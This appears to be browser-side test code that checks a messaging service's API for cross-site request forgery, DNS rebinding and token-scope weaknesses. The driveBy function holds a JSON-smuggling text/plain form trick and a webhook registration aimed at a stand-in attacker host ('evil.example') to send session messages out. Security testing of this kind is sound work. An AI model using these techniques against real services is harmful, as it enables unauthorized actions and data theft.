// Functions of a page that use the service in a browser; each returns the outcome.

const SESSIONS = "/api/messaging/sessions";
const PARTIES = {
  agentId: "b850bc30-45f8-0041-a00a-83df46d8555d",
  userId: "6f1c0f52-7a3e-4c55-9d0a-2b7f4e8a1c90",
};
const JSON_TYPE = { "Content-Type": "application/json" };

const within = (ms, promise) =>
  Promise.race([promise, new Promise((done) => setTimeout(done, ms, "nothing came"))]);

const refused = (error) => ({ refused: error.name });

/** Use the API as an application's page does; what it may read of each answer. */
async function rest(service) {
  const read = async (method, path, body) => {
    const headers = body ? { ...JSON_TYPE, "Idempotency-Key": crypto.getRandomValues(new Uint8Array(8)).join("") } : {};
    const answer = await fetch(service + path, { method, headers, body: body && JSON.stringify(body) });
    return { status: answer.status, body: await answer.json(), headers: Object.fromEntries(answer.headers) };
  };
  try {
    const created = await read("POST", SESSIONS, PARTIES);
    const path = `${SESSIONS}/${created.body.sessionId}`;
    const sent = await read("POST", `${path}/messages`, { content: "Hello" });
    const changed = await read("PATCH", `${path}/timeout`, { timeoutMinutes: 10 });
    const got = await read("GET", path);
    const ended = await read("DELETE", path);
    const gone = await read("GET", path);
    return {
      statuses: [created, sent, changed, got, ended, gone].map(({ status }) => status),
      readable: ["location", "x-request-id"].filter((name) => name in created.headers),
      gone: gone.body.error.code,
    };
  } catch (error) {
    return refused(error);
  }
}

/** Follow a session by EventSource until it ends. */
function events(service, sessionId) {
  return within(10_000, new Promise((done) => {
    const names = [];
    const source = new EventSource(`${service}${SESSIONS}/${sessionId}/events`);
    source.onerror = () => {
      if (source.readyState === EventSource.CLOSED || names.length) done({ names, state: source.readyState });
      source.close();
    };
    for (const name of ["position", "session.message", "session.ended"]) {
      source.addEventListener(name, async () => {
        names.push(name);
        if (name === "position" && names.length === 1) {
          const url = `${service}${SESSIONS}/${sessionId}`;
          await fetch(`${url}/messages`, { method: "POST", headers: JSON_TYPE, body: '{"content": "Hi"}' });
          await fetch(url, { method: "DELETE" });
        }
      });
    }
  }));
}

/** Join a session by Socket.IO, send it a message, and see that come back. */
function sockets(service, sessionId, transports, auth) {
  return within(10_000, new Promise((done) => {
    const socket = io(service, { ...(transports && { transports }), ...(auth && { auth }), reconnection: false });
    socket.on("connect_error", (error) => done({ refused: error.message }));
    socket.on("messageBroadcast", ({ text, clientMessageId }) => {
      done({ text, clientMessageId });
      socket.disconnect();
    });
    socket.on("connect", () => {
      socket.emit("join", { channelId: sessionId });
      const payload = { channelId: sessionId, message: "Hi", messageId: "mine" };
      socket.emit("message", { type: 2, payload });
    });
  }));
}

/** Do all that a page may do to a service without asking it; what it can, nobody tells it. */
async function driveBy(service, sessionId) {
  const webhook = JSON.stringify({ url: "https://evil.example/", events: ["session.message"] });
  const create = JSON.stringify(PARTIES);
  const url = `${service}${SESSIONS}/${sessionId}`;
  const simple = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"];
  const bodies = [
    [`${service}/api/messaging/webhooks`, webhook],
    [`${service}${SESSIONS}`, create],
    [`${url}/messages`, '{"content": "Hi"}'],
  ];
  const sent = [];
  for (const [to, text] of bodies) {
    for (const type of ["", ...simple]) {
      const body = new Blob([text], { type });
      sent.push(fetch(to, { method: "POST", mode: "no-cors", body }));
      navigator.sendBeacon(to, body);
    }
    const buffer = new TextEncoder().encode(text);
    sent.push(fetch(to, { method: "POST", mode: "no-cors", body: buffer }));
    navigator.sendBeacon(to, buffer);
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.name = `frame${sent.length}`;
    const form = document.body.appendChild(document.createElement("form"));
    Object.assign(form, { action: to, method: "POST", enctype: "text/plain", target: frame.name });
    const input = form.appendChild(document.createElement("input"));
    Object.assign(input, { name: text.slice(0, -1) + ', "x": "', value: '"}' });
    sent.push(new Promise((done) => { frame.onload = done; form.submit(); setTimeout(done, 2000); }));
  }
  for (const action of ["renew", "heartbeat"]) {
    sent.push(fetch(`${url}/${action}`, { method: "POST", mode: "no-cors", credentials: "include" }));
    navigator.sendBeacon(`${url}/${action}`);
  }
  for (const method of ["DELETE", "PATCH", "PUT"]) sent.push(fetch(url, { method }));
  const handshake = `${service}/socket.io/?EIO=4&transport=polling`;
  for (const tag of ["script", "img"]) {
    const element = document.createElement(tag);
    sent.push(new Promise((done) => { element.onload = element.onerror = done; }));
    element.src = handshake;
    document.body.appendChild(element);
  }
  sent.push(fetch(handshake, { mode: "no-cors" }));
  const done = await Promise.allSettled(sent);
  const websocket = new WebSocket(`${service.replace("http", "ws")}/socket.io/?EIO=4&transport=websocket`);
  const opened = await within(5000, new Promise((end) => {
    websocket.onopen = () => end("open");
    websocket.onerror = () => end("refused");
  }));
  return { opened, readable: done.filter(({ value }) => value?.type === "cors").length };
}

/** Use a session with its token: read, stream, write and renew; then try what it is not for. */
async function withToken(service, token, sessionId, others) {
  const call = async (method, path, body, headers = { Authorization: `Bearer ${token}` }) => {
    const given = body ? { ...JSON_TYPE, ...headers } : headers;
    const answer = await fetch(service + path, { method, headers: given, body: body && JSON.stringify(body) });
    const { "x-request-id": _, ...fields } = Object.fromEntries(answer.headers);
    return { status: answer.status, fields, body: await answer.json() };
  };
  const path = `${SESSIONS}/${sessionId}`;
  const own = [await call("GET", path)];
  const streamed = await within(10_000, new Promise((done) => {
    const names = [];
    const source = new EventSource(`${service}${path}/events?token=${token}`);
    source.onerror = () => done(names);
    source.addEventListener("position", async () => {
      if (own.length > 1) return;
      own.push(await call("POST", `${path}/messages`, { content: "Hello" }));
      own.push(await call("POST", `${path}/renew`));
    });
    for (const name of ["session.message", "session.renewed"]) {
      source.addEventListener(name, () => {
        if (names.push(name) === 2) done(names);
      });
    }
  }));
  const codes = async (calls) => (await Promise.all(calls)).map(({ body }) => body.error.code);
  return {
    own: own.map(({ status }) => status),
    streamed: streamed.sort(),
    refused: await codes([
      call("POST", SESSIONS, PARTIES),
      call("GET", SESSIONS),
      call("DELETE", `${SESSIONS}?userId=${PARTIES.userId}`),
      call("POST", `${path}/tokens`, { scopes: ["events:read"] }),
      call("GET", "/api/messaging/webhooks"),
    ]),
    unauthorized: await codes([
      call("GET", path, undefined, {}),
      call("GET", path, undefined, { "X-API-KEY": "nobody" }),
      call("GET", `${path}?token=${token}`, undefined, {}),
    ]),
    others: await Promise.all(others.map(async (id) => JSON.stringify([
      await call("GET", `${SESSIONS}/${id}`),
      await call("GET", `${SESSIONS}/${id}/messages`),
      await call("POST", `${SESSIONS}/${id}/messages`, { content: "Hello" }),
      await call("POST", `${SESSIONS}/${id}/renew`),
      await call("DELETE", `${SESSIONS}/${id}`),
      await within(10_000, new Promise((done) => {
        const source = new EventSource(`${service}${SESSIONS}/${id}/events?token=${token}`);
        source.onopen = () => done("open");
        source.onerror = () => done(source.readyState);
      })),
    ]))),
  };
}

/** Use the service from a name that its page has pointed at it: as the page's own origin. */
async function rebound() {
  const answers = [
    await fetch(SESSIONS),
    await fetch(SESSIONS, { method: "POST", headers: JSON_TYPE, body: JSON.stringify(PARTIES) }),
    await fetch("/socket.io/?EIO=4&transport=polling"),
  ];
  return answers.map(({ status }) => status);
}
